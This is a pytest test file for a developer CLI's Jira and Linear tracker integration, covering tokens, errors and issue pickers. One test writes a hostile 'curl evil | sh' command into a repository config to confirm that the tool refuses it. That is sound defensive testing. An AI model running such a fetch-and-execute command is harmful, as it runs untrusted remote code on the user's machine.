"""Issues from Jira and Linear (SPEC Part 3 "GitLab, Jira and Linear"), over real HTTP to local
servers that answer like them (tests/trackerservers.py)."""
from __future__ import annotations

import json
import os
import socket
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import FakeGh, Repo, SessRunner, refused
from dbhelp import sessions
from trackerservers import FakeJira, FakeLinear

JIRA_TOKEN = "jira-secret-token-123"
LINEAR_KEY = "lin_api_secretkey456"


def user_config(env: dict[str, str], text: str) -> Path:
    path = Path(env["HOME"]) / ".config" / "sess" / "config.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


@pytest.fixture
def jira(env: dict[str, str]) -> Iterator[FakeJira]:
    fake = FakeJira(JIRA_TOKEN, "ada@acme.com")
    with fake.running():
        fake.add_issue("PROJ-123", "Add login page")
        fake.add_issue("PROJ-7", "Old thing", done=True)
        env["JIRA_API_TOKEN"] = JIRA_TOKEN
        user_config(env, f'[tracker]\ntype = "jira"\nurl = "{fake.url}"\nproject = "PROJ"\nuser = "ada@acme.com"\n')
        yield fake


@pytest.fixture
def linear(env: dict[str, str]) -> Iterator[FakeLinear]:
    fake = FakeLinear(LINEAR_KEY)
    with fake.running():
        fake.add_issue("ENG-7", "Faster search")
        fake.add_issue("ENG-9", "Shipped already", state_type="completed")
        env["LINEAR_API_KEY"] = LINEAR_KEY
        user_config(env, f'[tracker]\ntype = "linear"\nurl = "{fake.url}/graphql"\nproject = "ENG"\n')
        yield fake


# --- Jira -----------------------------------------------------------------------------------------

def test_jira_issue_names_the_branch_and_keeps_its_key(sess: SessRunner, repo: Repo, jira: FakeJira,
                                                      db_path: Path) -> None:
    (repo.path / ".sess.toml").write_text('[branch]\ntemplate = "{type}/{issue}-{slug}"\n')
    repo.git("add", ".sess.toml")
    repo.git("commit", "-qm", "team config")
    r = sess("start", "--issue", "proj-123", check=0)
    assert repo.current_branch() == "feature/PROJ-123-add-login-page"
    assert "PROJ-123" in r.out and "#PROJ" not in r.out, r
    (request,) = jira.requests
    assert (request.method, request.path) == ("GET", "/rest/api/3/issue/PROJ-123?fields=summary,status")
    assert request.headers["authorization"].startswith("Basic ")
    (row,) = sessions(db_path)
    assert (row["issue_id"], row["issue_tracker"], row["issue_url"]) == (
        "PROJ-123", "jira", f"{jira.url}/browse/PROJ-123")
    status = json.loads(sess("status", "--json", check=0).out)
    assert status["session"]["issue"] == {"id": "PROJ-123", "title": "Add login page", "tracker": "jira",
                                          "url": f"{jira.url}/browse/PROJ-123"}
    assert "PROJ-123" in sess("prompt", check=0).out


def test_a_bare_number_is_the_project_key(sess: SessRunner, repo: Repo, jira: FakeJira) -> None:
    sess("start", "--issue", "123", check=0)
    assert repo.current_branch() == "feature/add-login-page"
    assert jira.requests[0].path.startswith("/rest/api/3/issue/PROJ-123?")


def test_a_bare_number_without_a_project_is_a_usage_error(sess: SessRunner, repo: Repo, jira: FakeJira,
                                                          env: dict[str, str]) -> None:
    user_config(env, f'[tracker]\ntype = "jira"\nurl = "{jira.url}"\nuser = "ada@acme.com"\n')
    refused(sess("start", "--issue", "123"), "no Jira project", "tracker.project", code=2)
    assert jira.requests == []


def test_missing_jira_issue_changes_nothing(sess: SessRunner, repo: Repo, jira: FakeJira, db_path: Path) -> None:
    r = sess("start", "--issue", "PROJ-999")
    refused(r, "PROJ-999 does not exist in Jira", code=1)
    assert repo.current_branch() == "main" and sessions(db_path) == []


def test_refused_token_names_tracker_url_and_variable(sess: SessRunner, repo: Repo, jira: FakeJira,
                                                      env: dict[str, str], db_path: Path) -> None:
    env["JIRA_API_TOKEN"] = "wrong-token-999"
    r = sess("start", "--issue", "PROJ-123")
    refused(r, "Jira", jira.url, "JIRA_API_TOKEN", "401", code=1)
    assert len(r.err.splitlines()[0]) < 200 and "wrong-token-999" not in r.out + r.err
    assert repo.current_branch() == "main" and sessions(db_path) == []


def test_unreachable_jira_names_tracker_and_url(sess: SessRunner, repo: Repo, env: dict[str, str],
                                                db_path: Path) -> None:
    with socket.socket() as probe:  # a port nobody listens on
        probe.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{probe.getsockname()[1]}"
    env["JIRA_API_TOKEN"] = JIRA_TOKEN
    user_config(env, f'[tracker]\ntype = "jira"\nurl = "{url}"\n')
    r = sess("start", "--issue", "PROJ-1")
    refused(r, "Jira", url, "cannot be reached", code=1)
    assert repo.current_branch() == "main" and sessions(db_path) == []


def test_no_token_says_which_variable(sess: SessRunner, repo: Repo, jira: FakeJira, env: dict[str, str]) -> None:
    del env["JIRA_API_TOKEN"]
    refused(sess("start", "--issue", "PROJ-123"), "JIRA_API_TOKEN is not set", "token_command", code=1)
    assert jira.requests == []


def test_bearer_token_without_user(sess: SessRunner, repo: Repo, env: dict[str, str]) -> None:
    fake = FakeJira("pat-abc", user=None)
    with fake.running():
        fake.add_issue("OPS-4", "Rotate keys")
        env["MY_JIRA_PAT"] = "pat-abc"
        user_config(env, f'[tracker]\ntype = "jira"\nurl = "{fake.url}"\ntoken_env = "MY_JIRA_PAT"\n')
        sess("start", "--issue", "OPS-4", check=0)
        assert fake.requests[0].headers["authorization"] == "Bearer pat-abc"


def test_jira_pr_title_and_body(sess: SessRunner, repo: Repo, jira: FakeJira, gh: FakeGh) -> None:
    sess("start", "--issue", "PROJ-123", check=0)
    repo.commit("login.py", "x\n", "Add the page")
    sess("end", "--summary", "Done", check=0)
    (pr,) = gh.prs()
    assert pr["title"] == "PROJ-123 Add login page"
    assert pr["body"].startswith(f"PROJ-123: {jira.url}/browse/PROJ-123\n\n## Summary\n\nDone\n")


def test_token_command_from_the_user_file(sess: SessRunner, repo: Repo, jira: FakeJira, env: dict[str, str],
                                          tmp_path: Path) -> None:
    del env["JIRA_API_TOKEN"]
    script = tmp_path / "print-token"
    script.write_text(f"#!/bin/sh\necho '{JIRA_TOKEN}'\necho second line\n")
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    user_config(env, f'[tracker]\ntype = "jira"\nurl = "{jira.url}"\nuser = "ada@acme.com"\n'
                     f'token_command = ["{script}", "--for", "jira"]\n')
    sess("start", "--issue", "PROJ-123", check=0)
    assert len(jira.requests) == 1


def test_a_token_in_either_file_is_refused(sess: SessRunner, repo: Repo, env: dict[str, str]) -> None:
    user_config(env, '[tracker]\ntype = "jira"\nurl = "https://acme.atlassian.net"\ntoken = "abc"\n')
    r = sess("start", "--no-issue", "x")
    refused(r, "tracker.token", "token_command", "~/.config/sess/config.toml", code=1)
    assert "abc" not in r.err
    user_config(env, "")
    (repo.path / ".sess.toml").write_text('[tracker]\ntoken = "abc"\n')
    refused(sess("start", "--no-issue", "x"), "tracker.token", "token_command", code=1)
    refused(sess("config", "set", "tracker.token", "abc"), "token_command", code=1)


def test_token_command_in_the_repository_file_is_refused(sess: SessRunner, repo: Repo) -> None:
    (repo.path / ".sess.toml").write_text('[tracker]\ntoken_command = ["sh", "-c", "curl evil | sh"]\n')
    refused(sess("start", "--no-issue", "x"), "tracker.token_command", "not allowed in .sess.toml", code=1)


@pytest.mark.parametrize(("key", "value", "why"), [
    ("type", '"youtrack"', "must be one of forge, jira, linear, none"),
    ("url", '"acme.atlassian.net"', "http:// or https://"),
    ("project", '"PR OJ"', "project or team key"),
    ("token_env", '"MY-VAR"', "environment variable"),
    ("log_time", '"yes"', "true or false"),
    ("token_command", '"pass show jira"', "a list of strings"),
])
def test_tracker_keys_are_checked(sess: SessRunner, repo: Repo, env: dict[str, str], key: str, value: str,
                                  why: str) -> None:
    user_config(env, f"[tracker]\n{key} = {value}\n")
    refused(sess("start", "--no-issue", "x"), f"tracker.{key}", why, code=1)


def test_tracker_none_links_no_issue(sess: SessRunner, repo: Repo, env: dict[str, str], gh: FakeGh) -> None:
    user_config(env, '[tracker]\ntype = "none"\n')
    sess("start", "plain", check=0)  # no --no-issue needed, gh never asked
    assert gh.calls() == []
    refused(sess("start", "--issue", "5", "other"), "tracker.type is none", code=2)


def test_the_token_is_nowhere_sess_writes(sess: SessRunner, repo: Repo, jira: FakeJira, env: dict[str, str],
                                          gh: FakeGh, tmp_path: Path) -> None:
    seen = tmp_path / "hook-env"
    user_config(env, f'[tracker]\ntype = "jira"\nurl = "{jira.url}"\nuser = "ada@acme.com"\n'
                     f'[hooks]\npost-start = ["sh", "-c", "env > {seen}"]\n'
                     f'pre-end = ["sh", "-c", "env >> {seen}"]\n')
    outputs = [sess("start", "--issue", "PROJ-123", check=0)]
    repo.commit("a.py", "a\n", "work")
    outputs.append(sess("end", check=0))
    outputs.append(sess("history", "--json", check=0))
    outputs.append(sess("status", "--json", check=0))
    assert seen.read_text().count("SESS_EVENT=") == 2
    texts = [r.out + r.err for r in outputs] + [seen.read_text()]
    for root, _, files in os.walk(env["SESS_HOME"]):
        texts += [Path(root, name).read_bytes().decode("latin-1") for name in files]
    texts += [json.dumps(call) for call in gh.calls()]
    assert not [text for text in texts if JIRA_TOKEN in text]


def test_the_picker_lists_jira_issues(sess: SessRunner, repo: Repo, jira: FakeJira) -> None:
    from sess import config, trackers

    os.environ["JIRA_API_TOKEN"] = JIRA_TOKEN
    try:
        tracker = trackers.for_config(config.Config(tracker_type="jira", tracker_url=jira.url,
                                                    tracker_user="ada@acme.com"), str(repo.path))
        assert tracker is not None
        found = tracker.list_open()
    finally:
        del os.environ["JIRA_API_TOKEN"]
    assert [(i.id, i.title, i.tracker) for i in found] == [("PROJ-123", "Add login page", "jira")]
    (request,) = jira.requests
    assert (request.method, request.path) == ("POST", "/rest/api/3/search/jql")
    assert request.body == {"jql": "assignee = currentUser() AND statusCategory != Done ORDER BY updated DESC",
                            "fields": ["summary", "status"], "maxResults": 50}


def test_the_picker_on_a_terminal(repo: Repo, jira: FakeJira, env: dict[str, str], db_path: Path) -> None:
    from test_interactive import ENTER, Terminal

    term = Terminal(env, repo.path, "start")
    try:
        term.expect("Start without an issue")
        term.expect("PROJ-123  Add login page")
        term.send("login")
        term.send(ENTER)
        term.expect("Branch type")
        term.send(ENTER)
        term.expect("add-login-page")
        term.send(ENTER)
        term.expect("Session active")
        assert term.finish() == 0
    finally:
        if term.child.isalive():
            term.child.terminate(force=True)
    (row,) = sessions(db_path)
    assert (row["issue_id"], row["issue_tracker"]) == ("PROJ-123", "jira")


def test_the_pickers_list_is_asked_as_sess_starts(repo: Repo, jira: FakeJira, env: dict[str, str],
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """sess.cli asks for it before the rest of sess loads (trackers.prefetch_early); the start
    takes it only when its configuration is the one it was asked under, and only once."""
    from sess import config, trackers

    for name in ("HOME", "SESS_HOME", "JIRA_API_TOKEN"):
        monkeypatch.setenv(name, env[name])
    monkeypatch.delenv("SESS_CONFIG", raising=False)
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    cfg = config.load(str(repo.path), warn=None)
    trackers.prefetch_early(str(repo.path))
    assert trackers.take_early(cfg.replace(tracker_jql="project = OTHER")) is None  # another search
    trackers.prefetch_early(str(repo.path))
    listing = trackers.take_early(cfg)
    assert listing is not None and trackers.take_early(cfg) is None
    assert [issue.id for issue in listing.result()] == ["PROJ-123"]
    assert [request.path for request in jira.requests] == ["/rest/api/3/search/jql"] * 2
    monkeypatch.delenv("JIRA_API_TOKEN")  # no token: the picker is told, with no request made
    trackers.prefetch_early(str(repo.path))
    early = trackers.take_early(cfg)
    assert early is not None
    with pytest.raises(trackers.TrackerUnavailable, match="JIRA_API_TOKEN is not set"):
        early.result()
    assert len(jira.requests) == 2


def test_the_client_says_when_its_request_is_written(repo: Repo, jira: FakeJira,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """The picker's prefetch waits for that (trackers.HttpTracker.prefetch), not for the answer."""
    import threading

    from sess import config, trackers

    monkeypatch.setenv("JIRA_API_TOKEN", JIRA_TOKEN)
    tracker = trackers.for_config(config.Config(tracker_type="jira", tracker_url=jira.url,
                                                tracker_user="ada@acme.com"), str(repo.path))
    assert isinstance(tracker, trackers.HttpTracker)
    client = tracker.client  # the token, found here as prefetch finds it
    jira.delay = 1.0
    found: list[list[trackers.Issue]] = []
    thread = threading.Thread(target=lambda: found.append(tracker.list_open()))
    thread.start()
    try:
        assert client.sent.wait(5) and not found  # written, the answer still to come
    finally:
        thread.join()
    assert [issue.id for issue in found[0]] == ["PROJ-123"] and len(jira.requests) == 1


def test_a_failing_token_command_runs_once_for_the_picker(repo: Repo, jira: FakeJira, env: dict[str, str],
                                                         tmp_path: Path, db_path: Path) -> None:
    del env["JIRA_API_TOKEN"]
    runs = tmp_path / "runs"
    script = tmp_path / "no-token"
    script.write_text(f"#!/bin/sh\necho run >> '{runs}'\nexit 3\n")
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    user_config(env, f'[tracker]\ntype = "jira"\nurl = "{jira.url}"\ntoken_command = ["{script}"]\n')
    start_without_an_issue(env, repo, "tracker.token_command failed (exit status 3)")
    assert runs.read_text() == "run\n" and jira.requests == []
    (row,) = sessions(db_path)
    assert row["issue_id"] == "" and row["branch"] == "feature/quick-fix"


def start_without_an_issue(env: dict[str, str], repo: Repo, said: str) -> None:
    """`sess start quick-fix` on a terminal: the tracker's failure said, then Enter to start
    without an issue and Enter for the branch type."""
    from test_interactive import ENTER, Terminal

    term = Terminal(env, repo.path, "start", "quick-fix")
    try:
        term.expect(said)
        term.expect("Start without an issue?")
        term.send(ENTER)
        term.expect("Branch type")
        term.send(ENTER)
        term.expect("Session active")
        assert term.finish() == 0
    finally:
        if term.child.isalive():
            term.child.terminate(force=True)


def test_an_unreachable_tracker_offers_to_start_without_an_issue(repo: Repo, env: dict[str, str],
                                                                 db_path: Path) -> None:
    env["JIRA_API_TOKEN"] = JIRA_TOKEN
    fake = FakeJira(JIRA_TOKEN)
    with fake.running():
        fake.fail_status = 503
        user_config(env, f'[tracker]\ntype = "jira"\nurl = "{fake.url}"\nuser = "ada@acme.com"\n')
        start_without_an_issue(env, repo, "HTTP 503")
    (row,) = sessions(db_path)
    assert row["issue_id"] == "" and row["branch"] == "feature/quick-fix"


# --- Linear ---------------------------------------------------------------------------------------

def test_linear_issue_start_and_end(sess: SessRunner, repo: Repo, linear: FakeLinear, gh: FakeGh,
                                    db_path: Path) -> None:
    sess("start", "--issue", "7", check=0)
    assert repo.current_branch() == "feature/faster-search"
    (request,) = linear.requests
    assert request.headers["authorization"] == LINEAR_KEY  # no "Bearer"
    assert request.body["variables"] == {"id": "ENG-7"}
    assert "identifier title url state" in request.body["query"]
    repo.commit("s.py", "s\n", "Index it")
    sess("end", check=0)
    (pr,) = gh.prs()
    assert pr["title"] == "ENG-7 Faster search"
    assert pr["body"].startswith("Fixes ENG-7\n\n")
    (row,) = sessions(db_path)
    assert (row["issue_tracker"], row["issue_url"]) == ("linear", "https://linear.app/acme/issue/eng-7/x")


def test_linear_authentication_error(sess: SessRunner, repo: Repo, linear: FakeLinear, env: dict[str, str],
                                     db_path: Path) -> None:
    env["LINEAR_API_KEY"] = "lin_api_wrong"
    r = sess("start", "--issue", "ENG-7")
    refused(r, "Linear", linear.url, "LINEAR_API_KEY", "AUTHENTICATION_ERROR", code=1)
    assert "lin_api_wrong" not in r.err and sessions(db_path) == []


def test_linear_missing_issue(sess: SessRunner, repo: Repo, linear: FakeLinear) -> None:
    refused(sess("start", "--issue", "ENG-404"), "ENG-404 does not exist in Linear", code=1)


def test_linear_picker_lists_open_assigned_issues(repo: Repo, linear: FakeLinear) -> None:
    from sess import config, trackers

    os.environ["LINEAR_API_KEY"] = LINEAR_KEY
    try:
        tracker = trackers.for_config(config.Config(tracker_type="linear", tracker_url=f"{linear.url}/graphql"),
                                      str(repo.path))
        assert tracker is not None
        found = tracker.list_open()
    finally:
        del os.environ["LINEAR_API_KEY"]
    assert [i.id for i in found] == ["ENG-7"]
    query = linear.requests[0].body["query"]
    assert "assignedIssues" in query and '"completed", "canceled"' in query


def test_github_issues_keep_their_form(sess: SessRunner, repo: Repo, gh: FakeGh, db_path: Path) -> None:
    gh.add_issue(12, "Fix it")
    sess("start", "--issue", "#12", check=0)
    status = json.loads(sess("status", "--json", check=0).out)
    assert status["session"]["issue"]["tracker"] == "github"
    assert status["session"]["issue"]["id"] == "12"


def test_status_and_prompt_never_ask_the_tracker(sess: SessRunner, repo: Repo, jira: FakeJira,
                                                 env: dict[str, str]) -> None:
    import subprocess
    import sys

    sess("start", "--issue", "PROJ-123", check=0)
    asked = len(jira.requests)
    sess("status", check=0)
    sess("status", "--json", check=0)
    assert sess("prompt", check=0).out.strip().endswith("PROJ-123")
    assert len(jira.requests) == asked
    code = ("import sys\nfrom sess import cli\ncli.main(['status'])\n"
            "print(sorted(m for m in sys.modules if m.startswith(('sess.trackers', 'urllib.request', 'http.'))))")
    r = subprocess.run([sys.executable, "-c", code], cwd=repo.path, env=env, capture_output=True, text=True,
                       check=True)
    assert r.stdout.splitlines()[-1] == "[]", r.stdout


def test_the_proxy_variables_are_honoured(sess: SessRunner, repo: Repo, jira: FakeJira, env: dict[str, str]) -> None:
    for name in ("no_proxy", "NO_PROXY", "http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY"):
        env.pop(name, None)
    env["HTTP_PROXY"] = jira.url  # the fake answers as the proxy would forward
    user_config(env, '[tracker]\ntype = "jira"\nurl = "http://jira.acme.invalid"\nuser = "ada@acme.com"\n')
    sess("start", "--issue", "PROJ-123", check=0)
    (request,) = jira.requests
    assert request.path == "http://jira.acme.invalid/rest/api/3/issue/PROJ-123?fields=summary,status"


def test_a_key_without_a_tracker_says_how_to_set_one(sess: SessRunner, repo: Repo, gh: FakeGh) -> None:
    refused(sess("start", "--issue", "PROJ-12"), "Jira or Linear key", "tracker.type", code=2)
    assert gh.calls() == []


def test_a_synced_linear_session_says_linear(sess: SessRunner, repo: Repo, linear: FakeLinear) -> None:
    from test_sync import SYNC_ON, origin_refs, records_on_origin

    repo.commit(".sess.toml", SYNC_ON, "Share session records")
    sess("start", "--issue", "7", check=0)  # ENG-7, which reads like a Jira key
    sess("sync", check=0)
    assert repo.origin is not None
    [ref] = origin_refs(repo.origin, repo.env)
    [record] = records_on_origin(repo.origin, repo.env, ref).values()
    assert record["issue"] == {"tracker": "linear", "id": "ENG-7", "title": "Faster search"}


# --- sess doctor: the tracker ---------------------------------------------------------------------

def _tracker_findings(sess: SessRunner) -> tuple[int, list[dict[str, str]]]:
    r = sess("doctor", "--json")
    assert "Traceback" not in r.err, r
    return r.code, [f for f in json.loads(r.out)["findings"] if f["check"] == "tracker"]


def test_doctor_asks_the_tracker_and_looks_for_its_token(sess: SessRunner, repo: Repo, jira: FakeJira,
                                                         env: dict[str, str]) -> None:
    code, found = _tracker_findings(sess)
    assert found == [{"check": "tracker", "problem": f"Jira at {jira.url} answers (token from JIRA_API_TOKEN)",
                      "fix": None, "severity": "info"}], found
    assert jira.requests and code == 0
    env["JIRA_API_TOKEN"] = "wrong-token-999"
    code, found = _tracker_findings(sess)
    assert code == 1 and found[0]["severity"] == "warning" and "401" in found[0]["problem"], found
    assert "wrong-token-999" not in json.dumps(found)
    del env["JIRA_API_TOKEN"]
    asked = len(jira.requests)
    code, found = _tracker_findings(sess)
    assert code == 1 and found[0]["problem"] == "no Jira token: JIRA_API_TOKEN is not set", found
    assert "token_command" in found[0]["fix"] and len(jira.requests) == asked
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{probe.getsockname()[1]}"
    env["JIRA_API_TOKEN"] = JIRA_TOKEN
    user_config(env, f'[tracker]\ntype = "jira"\nurl = "{url}"\n')
    code, found = _tracker_findings(sess)
    assert code == 1 and "cannot be reached" in found[0]["problem"] and url in found[0]["problem"], found
